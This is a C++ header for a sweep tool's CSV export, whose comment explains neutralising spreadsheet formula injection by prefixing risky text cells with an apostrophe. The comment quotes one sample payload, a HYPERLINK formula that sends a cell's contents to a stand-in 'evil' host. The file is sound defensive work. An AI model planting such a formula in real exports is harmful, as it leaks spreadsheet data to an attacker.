/*
 * csv_table.h — `sweep export --format csv`: an export table as CSV text (RFC 4180) that is safe to
 * open in a spreadsheet.
 *
 * The decision: a spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with
 * =, +, -, @, a tab or a carriage return as a formula, and a sweep's text cells hold what others
 * wrote: a categorical parameter's value, a parameter or metric name, a failed program's message
 * (=HYPERLINK("http://evil/?"&A1, "x") leaks the sheet when clicked). As OWASP's CSV-injection
 * guidance says, such a text cell gets a leading ' (the spreadsheet then shows it as text, and
 * the ' is not shown); numbers (ExportTable::number) are written as they are, -0.5 included.
 * `raw` writes every cell as it is (for programs that read the file, not people).
 *
 *   std::string text = csv_table(store.export_table(sweep.id), {.raw = false});
 */
#pragma once

#include <string>
#include <string_view>

#include "store/records.h"

namespace sweep::cli {

struct CsvOptions {
  bool raw = false;  // no ' before text that a spreadsheet would run as a formula
};

// One cell: neutralised unless it is a number or options.raw, then quoted when it holds a comma,
// a quote or a line break.
std::string csv_cell(std::string_view cell, bool number, const CsvOptions& options);

// The header and every row, each line ended by "\n". The header's cells are text.
std::string csv_table(const ExportTable& table, const CsvOptions& options);

}  // namespace sweep::cli
